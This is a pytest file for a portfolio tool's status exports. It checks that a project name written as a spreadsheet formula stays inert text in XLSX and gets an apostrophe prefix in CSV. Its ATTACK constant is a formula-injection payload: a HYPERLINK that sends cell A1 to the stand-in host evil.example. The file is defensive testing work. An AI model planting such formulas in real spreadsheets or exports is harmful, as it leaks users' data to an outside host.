"""Status-center exports: a name typed as a formula is text in XLSX and neutralised in CSV."""

import csv
import io

import pytest
from openpyxl import load_workbook

from pmo.portfolio import services
from pmo.portfolio.extensions import registry

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def hostile(users, make_project):
    """A project its PM renamed like a formula, with a negative slip (finishing early)."""
    project = make_project(code="INJ1")
    return services.update_project(
        actor=users["pm"],
        project=project,
        data={"name": ATTACK, "forecast_finish": "2026-12-21"},
        version=project.version,
    )


def test_xlsx_export_holds_a_formula_like_name_as_a_string_cell(client, users, hostile):
    client.force_login(users["exec"])
    response = client.get("/projects/export.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "INJ1")
    name, slip = row[header.index("Name")], row[header.index("Slip (days)")]
    assert (name.value, name.data_type) == (ATTACK, "s")
    assert (slip.value, slip.data_type) == (-10, "n")
    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)


def test_csv_export_neutralises_a_formula_like_name(client, users, hostile):
    client.force_login(users["exec"])
    response = client.get("/projects/export.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    header = rows[0]
    row = next(r for r in rows[1:] if r[0] == "INJ1")
    assert row[header.index("Name")] == "'" + ATTACK
    assert row[header.index("Slip (days)")] == "-10"


@pytest.mark.parametrize(("language", "no"), [("en", "no"), ("zh-hans", "否")])
def test_csv_export_writes_flags_as_words_in_the_readers_language(
    client, users, hostile, language, no
):
    users["exec"].language = language
    users["exec"].save()
    client.force_login(users["exec"])
    response = client.get("/projects/export.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    row = next(r for r in rows[1:] if r[0] == "INJ1")
    assert "True" not in row and "False" not in row
    # the last two columns before the extensions': decision needed (no), report missing (yes)
    last = len(rows[0]) - len(registry.export_columns)
    yes = "是" if language == "zh-hans" else "yes"
    assert row[last - 2 : last] == [no, yes]
